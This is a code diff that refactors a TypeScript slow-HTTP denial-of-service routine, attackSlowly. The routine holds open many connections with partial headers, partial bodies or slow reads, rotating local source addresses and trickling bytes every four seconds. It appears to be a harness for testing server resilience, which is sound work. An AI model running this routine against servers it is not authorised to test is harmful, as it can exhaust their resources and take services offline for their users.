@@ -9,7 +9,7 @@ type SlowKind = (typeof slowKinds)[number];
 const beginnings: Readonly<Record<SlowKind, string>> = {
   headers: 'GET /public/home HTTP/1.1\r\nHost: x\r\n',
   body: 'POST /identity/forgot HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{',
-  // More than any buffer on the way holds, so that the server is left with the rest.
+  // More than the buffers on the way hold, so that the server must keep the rest.
   read: `GET ${bigPath} HTTP/1.1\r\nHost: x\r\n\r\n`,
 };
 
@@ -22,18 +22,18 @@ const drops: Readonly<Record<SlowKind, string | undefined>> = {
 interface Attack {
   readonly origin: string;
   /** Connections of each kind. */
-  readonly each: number;
-  /** Addresses on this machine that they come from in turn. */
-  readonly from: readonly string[];
+  readonly connectionsEach: number;
+  /** Addresses on this machine from which they come in turn. */
+  readonly addresses: readonly string[];
 }
 
-/** Opens slow connections of every kind, and lets each go on a little every few seconds. */
-export async function attackSlowly({ origin, each, from }: Attack) {
+/** Opens slow connections of every kind; each sends a little more every few seconds. */
+export async function attackSlowly({ origin, connectionsEach, addresses }: Attack) {
   const { hostname, port } = new URL(origin);
   const sockets = new Map<SlowKind, Socket[]>(slowKinds.map((kind) => [kind, []]));
   const open = (kind: SlowKind, number: number) =>
     new Promise<void>((resolve) => {
-      const localAddress = from[number % from.length];
+      const localAddress = addresses[number % addresses.length];
       const socket = connect({
         host: hostname,
         port: Number(port),
@@ -49,16 +49,17 @@ export async function attackSlowly({ origin, each, from }: Attack) {
       sockets.get(kind)?.push(socket);
     });
   for (const kind of slowKinds)
-    await Promise.all(Array.from({ length: each }, (_, number) => open(kind, number)));
+    await Promise.all(Array.from({ length: connectionsEach }, (_, number) => open(kind, number)));
   const timer = setInterval(() => {
-    for (const [kind, some] of sockets)
-      for (const socket of some) if (drops[kind] && socket.writable) socket.write(drops[kind]);
+    for (const [kind, socketsOfKind] of sockets)
+      for (const socket of socketsOfKind)
+        if (drops[kind] && socket.writable) socket.write(drops[kind]);
   }, 4000);
   return {
     sockets,
     stop: () => {
       clearInterval(timer);
-      for (const some of sockets.values()) for (const socket of some) socket.destroy();
+      for (const socket of [...sockets.values()].flat()) socket.destroy();
     },
   };
 }
